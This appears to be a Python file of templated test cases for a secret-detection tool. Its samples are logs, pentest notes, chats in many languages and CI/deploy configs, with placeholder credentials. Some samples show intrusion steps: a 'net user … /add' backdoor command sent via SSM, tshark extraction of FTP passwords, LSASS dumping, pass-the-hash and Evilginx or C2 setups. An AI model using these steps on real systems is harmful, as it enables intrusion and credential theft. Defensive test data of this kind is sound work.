T(_G, "s3-presigned-url-in-log", "INFO generated report link: https://«slug»-reports.s3.eu-west-1.amazonaws.com/pentest/«slug»_final.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=«akid»%2F20250314%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20250314T101500Z&X-Amz-Expires=604800&X-Amz-SignedHeaders=host&X-Amz-Signature=«hex64»", "«hex64»", "X-Amz-Algorithm=AWS4-HMAC-SHA256")
T(_G, "gcs-signed-url-in-log", "DEBUG upload target https://storage.googleapis.com/«slug»-loot/dump.tar.gz?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=uploader%40«slug».iam.gserviceaccount.com%2F20250314%2Fauto%2Fstorage%2Fgoog4_request&X-Goog-Date=20250314T101500Z&X-Goog-Expires=900&X-Goog-SignedHeaders=host&X-Goog-Signature=«hex256»", "«hex256»", "X-Goog-Algorithm=GOOG4-RSA-SHA256")
T(_G, "azure-sas-sig-in-log", "WARN retrying PUT https://«slug»store.blob.core.windows.net/evidence/«ticket».zip?sv=2022-11-02&ss=b&srt=co&sp=rwdlac&se=2025-04-01T00:00:00Z&st=2025-03-14T00:00:00Z&spr=https&sig=«sasig»", "«sasig»", "sv=2022-11-02", pre=lambda c: c.update(sasig=_s(_B64, 43).replace("+", "%2B").replace("/", "%2F") + "%3D"))
T(_G, "cloudfront-signed-url-signature", "«ip» GET /downloads/agent.msi?Expires=1743465600&Signature=«cfsig»&Key-Pair-Id=K«up13» 200", "«cfsig»", "Key-Pair-Id=K«up13»", pre=lambda c: c.update(cfsig=_s(_AN + "-~", 340) + "__"))
T(_G, "github-actions-log-unmasked-echo", "2025-03-14T«time».0000000Z ##[group]Run ./scripts/deploy.sh\n2025-03-14T«time».0000000Z DEPLOY_KEY_B64 length 3244, prefix: LS0tLS1CRUdJTi\n2025-03-14T«time».0000000Z using registry password «pwx»", "«pwx»", "Run ./scripts/deploy.sh")
T(_G, "openvpn-verb-log-auth-user-pass", "«date» «time» us=«dig6» MANAGEMENT: CMD 'password \"Auth\" \"«pwx»\"'\n«date» «time» us=«dig6_2» SUCCESS: 'Auth' password entered, but not yet verified", "«pwx»", "SUCCESS: 'Auth' password entered")
T(_G, "php-fatal-error-pdo-dsn", "PHP Fatal error:  Uncaught PDOException: SQLSTATE[HY000] [1045] Access denied in /var/www/html/lib/db.php:12\nStack trace:\n#0 /var/www/html/lib/db.php(12): PDO->__construct('mysql:host=«ip»...', '«user»', '«pwx»')", "«pwx»", "Uncaught PDOException")
T(_G, "python-logging-dict-repr-secret", "2025-03-14 «time»,441 DEBUG integrations.shodan: init {'api_key': '«an32»', 'timeout': 30, 'retries': 3}", "«an32»", "integrations.shodan")
T(_G, "wpa-supplicant-debug-psk-hexdump", "wlan0: WPA: PSK from config (hexdump_ascii):\n     «pskhex»\nwlan0: Trying to associate with «mac» (SSID='«ssid»' freq=2437 MHz)", "«pskhex»", "Trying to associate with «mac»", pre=lambda c: c.update(pskhex=_s(_HEX, 64)))
T(_G, "hashcat-status-cracked-line-in-log", "Session..........: «slug»_ntlm\nStatus...........: Running\nRecovered........: 1/38 (2.63%) Digests\n«nt»:«pwh»\nProgress.........: 1032192/14344384 (7.20%)", "«pwh»", "Session..........: «slug»_ntlm")
T(_G, "smtp-debug-auth-plain", "send: 'AUTH PLAIN «authplain»\\r\\n'\nreply: b'235 2.7.0 Authentication successful\\r\\n'", "«authplain»", "235 2.7.0 Authentication successful", pre=lambda c: c.update(authplain=_b64e("\x00" + c["email"] + "\x00" + c["pwx"])))
T(_G, "iis-log-cs-uri-query-password", "2025-03-14 «time» «ip» GET /owa/auth.owa username=«dom»%5C«user»&password=«pwu»&isUtf8=1 443 - «eip» Mozilla/5.0 302 0 0 31", "«pwu»", "/owa/auth.owa")
T(_G, "kubelet-event-failed-pull-with-creds", "Warning  Failed  pod/«word»-api-7d9c  Failed to pull image \"registry.«webdom»/api:1.9\": unexpected status from HEAD request to https://robot:«an32»@registry.«webdom»/v2/api/manifests/1.9: 401", "«an32»", "Failed to pull image")
T(_G, "grafana-startup-log-admin-pass", "logger=settings t=«ts» level=info msg=\"Config overridden from Environment variable\" var=\"GF_SECURITY_ADMIN_PASSWORD=«pwx»\"", "«pwx»", "Config overridden from Environment variable")
T(_G, "bash-xtrace-log-password", "+ export SMB_PASS=«pwx»\n+ SMB_PASS=«pwx»\n+ smbclient //«ip»/backup -U «user» --password=«pwx» -c ls", "«pwx»", "+ smbclient //«ip»/backup")
T(_G, "syslog-docker-run-env-leak", "Mar 14 «time» «host» dockerd[812]: time=\"«ts»\" level=info msg=\"starting container\" args=\"-e MINIO_ROOT_PASSWORD=«pwx» minio/minio server /data\"", "«pwx»", "dockerd[812]")
T(_G, "vault-audit-log-raw-client-token", "{\"time\":\"«ts»\",\"type\":\"response\",\"auth\":{\"client_token\":\"hvs.CAESI«bu80»\",\"accessor\":\"hmac-sha256:«hex64»\",\"display_name\":\"approle\",\"policies\":[\"default\",\"«word»-read\"]}}", "hvs.CAESI«bu80»", "\"display_name\":\"approle\"")
T(_G, "systemd-journal-restic-password", "Mar 14 «time» «host» systemd[1]: Starting restic-backup.service...\nMar 14 «time» «host» restic[4411]: env RESTIC_REPOSITORY=s3:https://s3.«webdom»/bk RESTIC_PASSWORD=«pwp» restic backup /srv", "«pwp»", "Starting restic-backup.service")
T(_G, "kube-apiserver-audit-secret-create", "{\"kind\":\"Event\",\"verb\":\"create\",\"objectRef\":{\"resource\":\"secrets\",\"namespace\":\"«word»\",\"name\":\"ldap-bind\"},\"requestObject\":{\"stringData\":{\"bindpw\":\"«pwx»\"}},\"user\":{\"username\":\"«user»\"}}", "«pwx»", "\"resource\":\"secrets\"")
T(_G, "vsftpd-protocol-log-pass-command", "Fri Mar 14 «time» 2025 [pid 3121] CONNECT: Client \"::ffff:«ip»\"\nFri Mar 14 «time» 2025 [pid 3121] FTP command: Client \"::ffff:«ip»\", \"USER «user»\"\nFri Mar 14 «time» 2025 [pid 3121] FTP command: Client \"::ffff:«ip»\", \"PASS «pwx»\"", "«pwx»", "\"USER «user»\"")
T(_G, "zeek-http-log-basic-password-column", "#fields\tts\tuid\tid.orig_h\thost\turi\tusername\tpassword\n1710400000.«dig6»\tC«an17»\t«ip»\tcam-«dig3».«fqdn»\t/cgi-bin/snapshot.cgi\tadmin\t«pwx»", "«pwx»", "/cgi-bin/snapshot.cgi")
T(_G, "har-entry-request-cookie", "{\"request\":{\"method\":\"GET\",\"url\":\"https://portal.«webdom»/api/me\",\"cookies\":[{\"name\":\"auth_session\",\"value\":\"«bu64»\",\"httpOnly\":true}]},\"response\":{\"status\":200}}", "«bu64»", "https://portal.«webdom»/api/me")
T(_G, "tshark-ftp-pass-fields", "$ tshark -r «slug»_lan.pcapng -Y 'ftp.request.command in {\"USER\" \"PASS\"}' -T fields -e ip.src -e ftp.request.arg\n«ip»\t«user»\n«ip»\t«pwx»", "«pwx»", "«slug»_lan.pcapng")
T(_G, "cloudtrail-ssm-sendcommand-parameters", "\"eventName\": \"SendCommand\",\n\"requestParameters\": {\"documentName\": \"AWS-RunPowerShellScript\", \"parameters\": {\"commands\": [\"net user «word»_bk «pwx» /add\"]}},\n\"sourceIPAddress\": \"«eip»\"", "«pwx»", "\"eventName\": \"SendCommand\"")

# ======================================================================
# group: note-or-chat  (running notes, goals, decisions, pasted chat)
# ======================================================================
_G = "note-or-chat"
T(_G, "engagement-note-jumpbox-creds-slash", "## Day 2 - «client»\n- jump box «ip» reachable from VPN\n- creds for the jump box: «user» / «pwx» (from the kickoff email)\n- next: enumerate SMB signing", "«pwx»", "jump box «ip» reachable from VPN")
T(_G, "slack-thread-handover-password", "[«time»] «person»: handing over the «slug» internal. DA is done, golden ticket not needed\n[«time»] «person»: the local admin pw on all workstations is «pwx» (LAPS not deployed lol)\n[«time»] «person_2»: 👍 thx", "«pwx»", "handing over the «slug» internal")
T(_G, "german-chat-passwort-admin", "«person»: Das Passwort für den Domänen-Admin lautet «pwx» – bitte nach dem Test sofort zurücksetzen lassen.", "«pwx»", "Domänen-Admin")
T(_G, "french-note-mot-de-passe-wifi", "Note audit wifi «client» : le mot de passe du réseau invité «ssid» est «pw», affiché à l'accueil sur un post-it.", "«pw»", "réseau invité «ssid»")
T(_G, "spanish-chat-contrasena", "«person»: ya tengo acceso al vCenter 🎉 usuario administrator@vsphere.local, contraseña: «pwx»", "«pwx»", "administrator@vsphere.local")
T(_G, "portuguese-note-senha", "Anotação: a senha do usuário «svc» (conta de serviço do backup) é «pwx». Reutilizada em 14 servidores.", "«pwx»", "conta de serviço do backup")
T(_G, "italian-chat-password-e", "«person»: la password del router di filiale è «pwx», l'utente è admin. Non l'hanno mai cambiata dal 2019.", "«pwx»", "router di filiale")
T(_G, "dutch-note-wachtwoord", "Bevinding: het wachtwoord van «user» is «pws» (seizoen + jaar). Gekraakt in 3 seconden met rockyou + regels.", "«pws»", "gekraakt in 3 seconden".capitalize() if False else "Gekraakt in 3 seconden")
T(_G, "polish-chat-haslo", "«person»: hasło do panelu GoPhish to «pwx», login admin. Kampania startuje jutro o 9:00.", "«pwx»", "Kampania startuje jutro o 9:00")
T(_G, "russian-note-parol", "Заметка: пароль от учётки «svc» — «pwx». Нашли в скрипте на шаре NETLOGON.", "«pwx»", "шаре NETLOGON")
T(_G, "japanese-chat-password-wa", "«person»: 検証用アカウント «user» のパスワードは «pwx» です。テスト終了後に無効化してください。", "«pwx»", "検証用アカウント «user»")
T(_G, "chinese-note-mima-shi", "备注：«host» 上的 MySQL root 密码是 «pwx»，在 /var/www/config.php 里明文存放。", "«pwx»", "/var/www/config.php")
T(_G, "korean-chat-bimilbeonho", "«person»: 스테이징 서버 «ip» 관리자 비밀번호는 «pwx» 입니다. 외부 공유 금지!", "«pwx»", "스테이징 서버 «ip»")
T(_G, "turkish-note-sifre", "Not: «client» misafir ağı («ssid») şifresi: «pw» — resepsiyonda yazılı duruyor.", "«pw»", "misafir ağı («ssid»)")
T(_G, "swedish-chat-losenord", "«person»: lösenordet till VPN-kontot «user» är «pwx», giltigt till fredag.", "«pwx»", "VPN-kontot «user»")
T(_G, "czech-note-heslo", "Poznámka: heslo k iDRAC na «ip» je stále výchozí? Ne — změnili ho na «pwx».", "«pwx»", "iDRAC na «ip»")
T(_G, "vietnamese-chat-mat-khau", "«person»: mật khẩu tài khoản quản trị Wi-Fi văn phòng là «pw», nhớ ghi vào báo cáo.", "«pw»", "Wi-Fi văn phòng")
T(_G, "indonesian-note-kata-sandi", "Catatan: kata sandi untuk akun «user» di portal HR adalah «pwx» (didapat dari phishing hari ke-2).", "«pwx»", "portal HR")
T(_G, "hindi-chat-password", "«person»: सर्वर «host» का पासवर्ड «pwx» है, कृपया रिपोर्ट में इसे मास्क करें।", "«pwx»", "सर्वर «host»")
T(_G, "arabic-note-password", "ملاحظة: كلمة المرور لحساب «user» هي «pwx» وتم استخدامها على خادم «host».", "«pwx»", "«host»")
T(_G, "hebrew-chat-sisma", "«person»: הסיסמה לממשק הניהול של הפיירוול היא «pwx», משתמש admin.", "«pwx»", "משתמש admin")
T(_G, "finnish-note-salasana", "Muistiinpano: «svc»-tilin salasana on «pwx», löytyi SYSVOL-skriptistä.", "«pwx»", "SYSVOL-skriptistä")
T(_G, "greek-chat-kodikos", "«person»: ο κωδικός για το NAS «ip» είναι «pwx» — μην τον βάλεις στο Slack ξανά.", "«pwx»", "NAS «ip»")
T(_G, "ukrainian-note-parol", "Нотатка: пароль до Wi-Fi «ssid» — «pw», знайшли на стіні в переговорці.", "«pw»", "Wi-Fi «ssid»")
T(_G, "romanian-chat-parola", "«person»: parola pentru contul de test «user» este «pwx», expiră luni.", "«pwx»", "contul de test «user»")
T(_G, "hungarian-note-jelszo", "Jegyzet: a «host» gép helyi admin jelszava «pwx», ugyanaz mint a többi kliensen.", "«pwx»", "a «host» gép")
T(_G, "report-finding-weak-password", "### Finding «ticket»: Weak password for privileged account\nThe account «dom»\\«user» (member of Domain Admins) used the password `«pws»`, which was recovered offline in under a minute.\nRecommendation: enforce a 14+ character passphrase policy.", "«pws»", "Finding «ticket»: Weak password for privileged account")
T(_G, "report-markdown-loot-table-row", "| Host | Account | Secret | Source |\n|------|---------|--------|--------|\n| «host» | «dom»\\«svc» | «pwx» | LSA secrets |", "«pwx»", "| Host | Account | Secret | Source |")
T(_G, "running-notes-pw-label", "«time» got shell on «host» as «user» (pw: «pwx») via WinRM; dumping LSASS next", "«pwx»", "dumping LSASS next")
T(_G, "running-notes-creds-label-colon-pair", "creds: «user»:«pwx» -> works on OWA and Citrix, not on VPN (MFA)", "«pwx»", "works on OWA and Citrix")
T(_G, "note-unlabeled-worked-with", "ssh backup@«ip» worked with «pwx» — same as the one in the cron script, so password reuse confirmed.", "«pwx»", "ssh backup@«ip»")
T(_G, "client-email-temporary-password", "From: «person» <it@«webdom»>\nSubject: Pentest accounts\n\nHi team, your test account is pt-«person_2» and the temporary password is «pwx». You'll be asked to change it at first logon.", "«pwx»", "Subject: Pentest accounts")
T(_G, "teams-message-vpn-psk", "«person» (Teams): For the site-to-site test the IKE pre-shared key is «pwr» — peer «eip», aggressive mode still on.", "«pwr»", "peer «eip»")
T(_G, "jira-comment-bounty-repro-cookie", "Repro steps:\n1. Log in as the low-priv test user\n2. Replay with header `Cookie: session=«bu64»`\n3. GET /api/admin/users returns all 14k users → IDOR confirmed", "«bu64»", "GET /api/admin/users")
T(_G, "hackerone-report-leaked-stripe-key", "## Summary\nThe public JS bundle at https://www.«webdom»/static/js/main.«hex8».js contains a live Stripe secret key: `sk_live_«an99»`\n## Impact\nFull access to charges and refunds.", "sk_live_«an99»", "## Impact")
T(_G, "agent-goal-use-creds-pivot", "GOAL: use the recovered credential «dom»\\«svc» / «pwx» to pivot from «host» into the OT DMZ; do not touch PLCs.", "«pwx»", "do not touch PLCs")
T(_G, "decision-log-reuse-local-admin", "DECISION «date»: reuse local admin «pwx» across the WKS-* range rather than relaying — fewer alerts from Defender for Identity.", "«pwx»", "Defender for Identity")
T(_G, "handover-note-password-next-line", "Teamserver\n  host: «eip»:50050\n  user: «person»\n  password:\n    «pwx»\n  profile: amazon.profile", "«pwx»", "profile: amazon.profile")
T(_G, "wifi-audit-note-guest-psk", "Wifi audit «date»\n* «ssid» (WPA2-PSK) → PSK «pw» — cracked from 4-way handshake in 11 min\n* Corp network uses EAP-TLS, no creds captured", "«pw»", "Corp network uses EAP-TLS")
T(_G, "phishing-sim-note-gophish-login", "Phish sim kickoff: Gophish at https://«eip»:3333, login admin / «pwx». Landing page clones the «client» SSO portal.", "«pwx»", "https://«eip»:3333")
T(_G, "c2-note-teamserver-password", "C2 infra up: redirector redir-02 → teamserver «eip». teamserver pass «pwx», profile jquery-c2.4.9", "«pwx»", "redirector redir-02")
T(_G, "sow-test-credentials-section", "4.2 Test Accounts\nThe Client will provide two accounts:\n  - standard user: pt_user01 / «pwx»\n  - admin user: pt_admin01 / (provided via phone)", "«pwx»", "4.2 Test Accounts")
T(_G, "keepass-entry-pasted-in-chat", "«person»: copied from KeePass ->\nTitle: ESXi root\nUser: root\nPassword: «pwr»\nURL: https://esxi04.«fqdn»", "«pwr»", "Title: ESXi root")
T(_G, "signal-message-cracked-hash-share", "«person»: cracked the krbtgt? no lol. but «svc» fell: «pwh» (took 4h on the 4090s)", "«pwh»", "took 4h on the 4090s")
T(_G, "sticky-note-ocr-transcription", "OCR of photo IMG_«dig4».jpg (reception desk):\n\"WIFI  «ssid»\n PW   «pw»\"", "«pw»", "OCR of photo IMG_«dig4».jpg")
T(_G, "todo-note-rotate-old-password", "TODO(«person»): remind client to rotate «svc» — current password «pwx» is also in the SCCM task sequence.", "«pwx»", "SCCM task sequence")
T(_G, "mixed-language-japanese-english", "«person»: FYI the MSSQL sa password = «pwx» ですね、sysadmin 権限あり。xp_cmdshell enabled.", "«pwx»", "xp_cmdshell enabled")
T(_G, "mixed-chinese-english-creds", "«person»: 拿到了 «host» 的 creds → «user» / «pwx» ，可以 RDP 上去", "«pwx»", "可以 RDP 上去")
T(_G, "matrix-room-api-key-paste", "<«person»> here's the shared Shodan key for the team, please don't burn it: «an32»", "«an32»", "please don't burn it")
T(_G, "bug-bounty-writeup-test-account", "**Setup**: two accounts on https://app.«webdom»: attacker «email» (password «pwx») and victim «person_2»@«webdom».\n**Step 1**: intercept PUT /api/profile with Burp.", "«pwx»", "**Step 1**: intercept PUT /api/profile")
T(_G, "pasted-imds-creds-in-chat", "«person»: got creds from the SSRF → IMDS 🔥\nAccessKeyId «asia»\nSecretAccessKey «awssk»\n(role «word»-app-role, expires in 6h)", "«awssk»", "(role «word»-app-role, expires in 6h)")
T(_G, "note-abbrev-pass-in-parens", "«host» (iLO) → Administrator (pass «pwu») — firmware 2.44, CVE exploitable", "«pwu»", "firmware 2.44")
T(_G, "note-multiline-creds-block", "CREDS DUMP\n==========\nuser   : «dom»\\«user»\npass   : «pwx»\nsource : Responder → cracked w/ hashcat -m 5600", "«pwx»", "source : Responder")
T(_G, "standup-message-passphrase", "standup: still on the VPN pivot. the passphrase for the appliance backup is \"«pwp»\" (yes, with spaces), restore works.", "«pwp»", "standup: still on the VPN pivot")
T(_G, "email-forward-with-api-token", "---------- Forwarded message ---------\nFrom: «person» <«email»>\nPlease use this token for the API scope of the test: «bu40»\nIt expires on «date».", "«bu40»", "Forwarded message")
T(_G, "note-ntlm-hash-for-pth", "PtH works: Administrator NT hash «nt» is valid on 37/40 servers (local admin reuse).", "«nt»", "valid on 37/40 servers")
T(_G, "note-password-spelled-with-context", "called helpdesk as «person», reset was approved; new password they set: «pwh» (pretext: lost phone)", "«pwh»", "pretext: lost phone")
T(_G, "retro-notes-bullet-leaked-token", "Retro:\n- went well: ADCS ESC8 chain\n- went badly: «person» pasted the client's GitLab token glpat-«bu20» into our public pastebin-like tool 😬 (revoked)", "glpat-«bu20»", "ADCS ESC8 chain")
T(_G, "esperanto-like-chat-pasvorto", "«person»: la pasvorto de la testkonto «user» estas «pwx»", "«pwx»", "testkonto «user»")
T(_G, "norwegian-note-passord", "Notat: passordet til «user» på Citrix-portalen er «pwx», fått fra kunden per telefon.", "«pwx»", "Citrix-portalen")
T(_G, "thai-chat-rahat-phan", "«person»: รหัสผ่านของบัญชี «user» คือ «pwx» ครับ", "«pwx»", "«user»")
T(_G, "malay-note-kata-laluan", "Nota: kata laluan pentadbir untuk «host» ialah «pwx».", "«pwx»", "«host»")
T(_G, "agent-memory-credentials-section", "## Credentials discovered so far\n1. «dom»\\«user» — «pwx» (spray, works on SMB)\n2. «dom»\\«svc» — NT only, not cracked yet\n## Next steps\n- BloodHound path from «user»", "«pwx»", "## Credentials discovered so far")

# ======================================================================
# group: ci-and-deploy
# ======================================================================
_G = "ci-and-deploy"
T(_G, "github-actions-env-hardcoded-token", "jobs:\n  recon:\n    runs-on: ubuntu-latest\n    env:\n      SHODAN_KEY: «an32»\n    steps:\n      - uses: actions/checkout@v4\n      - run: python scan.py --targets scope.txt", "«an32»", "runs-on: ubuntu-latest")
T(_G, "gitlab-ci-variables-password", "variables:\n  DOCKER_DRIVER: overlay2\n  REGISTRY_USER: «user»\n  REGISTRY_PASSWORD: \"«pwx»\"\n\nbuild:\n  stage: build\n  script: docker login -u $REGISTRY_USER -p $REGISTRY_PASSWORD $CI_REGISTRY", "«pwx»", "DOCKER_DRIVER: overlay2")
T(_G, "jenkinsfile-sh-docker-login", "stage('Push') {\n  steps {\n    sh 'docker login -u «user» -p «pwu» registry.«webdom»'\n    sh 'docker push registry.«webdom»/«word»:${BUILD_NUMBER}'\n  }\n}", "«pwu»", "stage('Push')")
T(_G, "circleci-environment-block", "jobs:\n  deploy:\n    docker:\n      - image: cimg/python:3.12\n    environment:\n      DATADOG_API_KEY: «hex32»\n      DD_SITE: datadoghq.eu", "«hex32»", "image: cimg/python:3.12")
T(_G, "travis-env-global-plain", "language: node_js\nenv:\n  global:\n    - NPM_TOKEN=npm_«an36»\n    - NODE_ENV=production", "npm_«an36»", "language: node_js")
T(_G, "azure-pipelines-variables", "variables:\n  buildConfiguration: 'Release'\n  sqlAdminPassword: '«pwx»'\nsteps:\n- task: SqlAzureDacpacDeployment@1", "«pwx»", "task: SqlAzureDacpacDeployment@1")
T(_G, "bitbucket-pipelines-script-curl", "pipelines:\n  default:\n    - step:\n        script:\n          - curl -X POST -H \"Authorization: Bearer ATCTT3xFfGN0«bu100»\" https://api.bitbucket.org/2.0/repositories/«slug»/app/pipelines/", "ATCTT3xFfGN0«bu100»", "api.bitbucket.org/2.0/repositories/«slug»")
T(_G, "drone-yml-settings-password", "steps:\n- name: publish\n  image: plugins/docker\n  settings:\n    repo: «slug»/«word»\n    username: «user»\n    password: «pwx»", "«pwx»", "image: plugins/docker")
T(_G, "argocd-application-helm-parameter", "spec:\n  source:\n    helm:\n      parameters:\n        - name: postgresql.auth.password\n          value: «pwx»\n        - name: image.tag\n          value: v2.8.1", "«pwx»", "postgresql.auth.password")
T(_G, "helm-upgrade-set-password", "helm upgrade --install «word» bitnami/mariadb -n «word» --set auth.rootPassword='«pwx»' --set auth.database=«db»", "«pwx»", "bitnami/mariadb")
T(_G, "kubectl-apply-heredoc-secret", "kubectl apply -f - <<'YAML'\napiVersion: v1\nkind: Secret\nmetadata: {name: c2-operator}\nstringData:\n  token: «hex64»\nYAML", "«hex64»", "metadata: {name: c2-operator}")
T(_G, "docker-run-e-password", "docker run -d --name mythic-db -e POSTGRES_PASSWORD='«pwx»' -v /opt/mythic/pg:/var/lib/postgresql/data postgres:15", "«pwx»", "--name mythic-db")
T(_G, "docker-build-arg-token", "docker build --build-arg GITHUB_TOKEN=ghp_«an36» -t registry.«webdom»/tools/«word»:latest .", "ghp_«an36»", "registry.«webdom»/tools/«word»:latest")
T(_G, "terraform-apply-var-password", "terraform apply -auto-approve -var 'redirector_count=2' -var 'db_password=«pwx»' -var-file=envs/«slug».tfvars", "«pwx»", "-var-file=envs/«slug».tfvars")
T(_G, "ansible-vault-password-file-content", "$ cat .vault_pass\n«pwp»\n$ ansible-playbook deploy_c2.yml --vault-password-file .vault_pass", "«pwp»", "deploy_c2.yml")
T(_G, "packer-hcl-winrm-password", "source \"vsphere-iso\" \"win2022\" {\n  communicator   = \"winrm\"\n  winrm_username = \"Administrator\"\n  winrm_password = \"«pwx»\"\n  vcenter_server = \"vcenter.«fqdn»\"\n}", "«pwx»", "communicator   = \"winrm\"")
T(_G, "serverless-yml-environment", "provider:\n  name: aws\n  runtime: python3.12\n  environment:\n    TWILIO_AUTH_TOKEN: «hex32»\n    TWILIO_SID: AC«hex32_2»", "«hex32»", "runtime: python3.12")
T(_G, "heroku-config-set", "heroku config:set SENDGRID_API_KEY=SG.«bu22».«bu43» -a «slug»-phish-landing", "SG.«bu22».«bu43»", "-a «slug»-phish-landing")
T(_G, "fly-secrets-set", "fly secrets set DATABASE_URL='postgres://«user»:«pwu»@«word»-db.internal:5432/«db»' -a «word»-api", "«pwu»", "-a «word»-api")
T(_G, "gh-secret-set-body", "gh secret set AWS_SECRET_ACCESS_KEY --repo «slug»/infra --body '«awssk»'", "«awssk»", "gh secret set AWS_SECRET_ACCESS_KEY")
T(_G, "aws-ssm-put-parameter-value", "aws ssm put-parameter --name /«slug»/prod/db/password --type String --value '«pwx»' --overwrite", "«pwx»", "/«slug»/prod/db/password")
T(_G, "aws-secretsmanager-create-secret-string", "aws secretsmanager create-secret --name «word»/ldap --secret-string '{\"username\":\"«svc»\",\"password\":\"«pwx»\"}'", "«pwx»", "aws secretsmanager create-secret --name «word»/ldap")
T(_G, "gcloud-secrets-echo-pipe", "echo -n '«pwx»' | gcloud secrets versions add «word»-smtp-pass --data-file=-", "«pwx»", "gcloud secrets versions add «word»-smtp-pass")
T(_G, "az-keyvault-secret-set-value", "az keyvault secret set --vault-name kv-«slug»-prod --name sql-admin --value '«pwx»'", "«pwx»", "--vault-name kv-«slug»-prod")
T(_G, "k8s-deployment-env-value", "      containers:\n        - name: api\n          image: «word»/api:3.1\n          env:\n            - name: JWT_SECRET\n              value: \"«hex64»\"\n            - name: PORT\n              value: \"8080\"", "«hex64»", "image: «word»/api:3.1")
T(_G, "cloud-init-chpasswd-list", "#cloud-config\nssh_pwauth: true\nchpasswd:\n  expire: false\n  list: |\n    ubuntu:«pwx»\nruncmd:\n  - systemctl restart ssh", "«pwx»", "#cloud-config")
T(_G, "dockerfile-run-chpasswd", "FROM kalilinux/kali-rolling\nRUN useradd -m operator && echo 'operator:«pwx»' | chpasswd\nEXPOSE 22", "«pwx»", "FROM kalilinux/kali-rolling")
T(_G, "kickstart-rootpw-plaintext", "lang en_US.UTF-8\nkeyboard us\nrootpw --plaintext «pwx»\ntimezone Europe/Berlin --utc", "«pwx»", "keyboard us")
T(_G, "preseed-root-password", "d-i passwd/root-login boolean true\nd-i passwd/root-password password «pwx»\nd-i passwd/root-password-again password «pwx»", "«pwx»", "d-i passwd/root-login boolean true")
T(_G, "terraform-state-json-attribute", "\"attributes\": {\n  \"engine\": \"postgres\",\n  \"identifier\": \"«word»-db\",\n  \"password\": \"«pwx»\",\n  \"username\": \"dbadmin\"\n}", "«pwx»", "\"identifier\": \"«word»-db\"")
T(_G, "pulumi-config-set-plaintext", "pulumi config set dbPassword '«pwx»' --stack «slug»/prod\npulumi up --yes", "«pwx»", "--stack «slug»/prod")
T(_G, "nomad-job-template-env", "task \"web\" {\n  driver = \"docker\"\n  env {\n    REDIS_URL = \"redis://:«pwu»@«ip»:6379/0\"\n  }\n}", "«pwu»", "driver = \"docker\"")
T(_G, "consul-http-token-env", "export CONSUL_HTTP_ADDR=https://consul.«fqdn»:8501\nexport CONSUL_HTTP_TOKEN=«uuid»\nconsul kv get -recurse config/", "«uuid»", "consul kv get -recurse config/")
T(_G, "gha-services-postgres-password", "services:\n  postgres:\n    image: postgres:16\n    env:\n      POSTGRES_PASSWORD: «pwx»\n    ports: ['5432:5432']", "«pwx»", "ports: ['5432:5432']")
T(_G, "gha-setup-node-auth-token-literal", "- uses: actions/setup-node@v4\n  with:\n    registry-url: https://npm.pkg.github.com\n- run: npm publish\n  env:\n    NODE_AUTH_TOKEN: ghp_«an36»", "ghp_«an36»", "registry-url: https://npm.pkg.github.com")
T(_G, "terraform-redirector-cloudflare-token", "provider \"cloudflare\" {\n  api_token = \"«bu40»\"\n}\nresource \"cloudflare_record\" \"cdn\" {\n  zone_id = var.zone_id\n  name    = \"cdn-«word»\"", "«bu40»", "resource \"cloudflare_record\" \"cdn\"")
T(_G, "terraform-digitalocean-token-var-default", "variable \"do_token\" {\n  type    = string\n  default = \"dop_v1_«hex64»\"\n}", "dop_v1_«hex64»", "variable \"do_token\"")
T(_G, "ansible-group-vars-mythic-admin", "# group_vars/c2.yml\nmythic_admin_user: «person»\nmythic_admin_password: \"«pwx»\"\nmythic_http_port: 7443", "«pwx»", "group_vars/c2.yml")
T(_G, "systemd-unit-environment-secret", "[Service]\nEnvironment=EVILGINX_DNS_TOKEN=«bu40»\nExecStart=/opt/evilginx/evilginx -p /opt/evilginx/phishlets -developer=false\nRestart=on-failure", "«bu40»", "ExecStart=/opt/evilginx/evilginx")
T(_G, "caddyfile-basicauth-bcrypt", "cdn-«word».«webdom» {\n  basicauth /admin/* {\n    «person» $2a$14$«bcr»\n  }\n  reverse_proxy 127.0.0.1:«port»\n}", "$2a$14$«bcr»", "basicauth /admin/*", pre=lambda c: c.update(bcr=_s(_AN + "./", 53)))
T(_G, "ci-yaml-inline-private-key-block", "deploy:\n  variables:\n    SSH_PRIVATE_KEY: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      «osshind»\n      -----END OPENSSH PRIVATE KEY-----", "«osshind»", "SSH_PRIVATE_KEY: |", pre=lambda c: c.update(osshind=c["osshkey"].replace("\n", "\n      ")))
T(_G, "kustomize-secretgenerator-literals", "secretGenerator:\n- name: app-secrets\n  literals:\n  - DB_USER=«user»\n  - DB_PASS=«pwx»", "«pwx»", "name: app-secrets")
T(_G, "buildkite-pipeline-env", "env:\n  SONAR_TOKEN: \"squ_«hex40»\"\nsteps:\n  - label: \":sonarqube: scan\"\n    command: sonar-scanner", "squ_«hex40»", "command: sonar-scanner")
T(_G, "teamcity-parameter-xml", "<param name=\"env.DEPLOY_PASSWORD\" value=\"«pwx»\" />\n<param name=\"env.DEPLOY_HOST\" value=\"«host».«fqdn»\" />", "«pwx»", "env.DEPLOY_HOST")
T(_G, "concourse-params-yaml", "params:\n  cf_username: «user»\n  cf_password: «pwx»\n  cf_api: https://api.sys.«fqdn»", "«pwx»", "cf_api: https://api.sys.«fqdn»")
T(_G, "woodpecker-pipeline-environment", "steps:\n  test:\n    image: golang:1.22\n    environment:\n      SENTRY_AUTH_TOKEN: sntryu_«hex64»", "sntryu_«hex64»", "image: golang:1.22")
T(_G, "cloudbuild-substitutions-password", "substitutions:\n  _REGION: europe-west1\n  _DB_PASS: «pwx»\nsteps:\n- name: gcr.io/cloud-builders/gcloud", "«pwx»", "_REGION: europe-west1")
T(_G, "codebuild-buildspec-plaintext-env", "version: 0.2\nenv:\n  variables:\n    ARTIFACTORY_API_KEY: AKCp«an69»\nphases:\n  build:\n    commands: [\"./gradlew publish\"]", "AKCp«an69»", "./gradlew publish")
T(_G, "ecs-task-definition-environment", "\"environment\": [\n  {\"name\": \"SPRING_PROFILES_ACTIVE\", \"value\": \"prod\"},\n  {\"name\": \"SPRING_DATASOURCE_PASSWORD\", \"value\": \"«pwx»\"}\n]", "«pwx»", "SPRING_PROFILES_ACTIVE")
